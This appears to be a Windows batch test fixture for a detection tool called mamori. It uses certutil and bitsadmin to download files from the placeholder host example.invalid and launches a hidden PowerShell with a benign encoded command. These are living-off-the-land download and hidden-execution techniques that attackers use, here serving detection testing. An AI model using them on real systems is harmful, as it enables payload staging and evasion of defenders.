@echo off
rem mamori test fixture: living-off-the-land download (example.invalid)
certutil -urlcache -split -f http://example.invalid/a.txt %TEMP%\a.txt
bitsadmin /transfer job /download /priority high http://example.invalid/b.txt %TEMP%\b.txt
start /min powershell -nop -w hidden -enc VwByAGkAdABlAC0ATwB1AHQAcAB1AHQAIAAnAG0AYQBtAG8AcgBpACAAdABlAHMAdAAnAA==
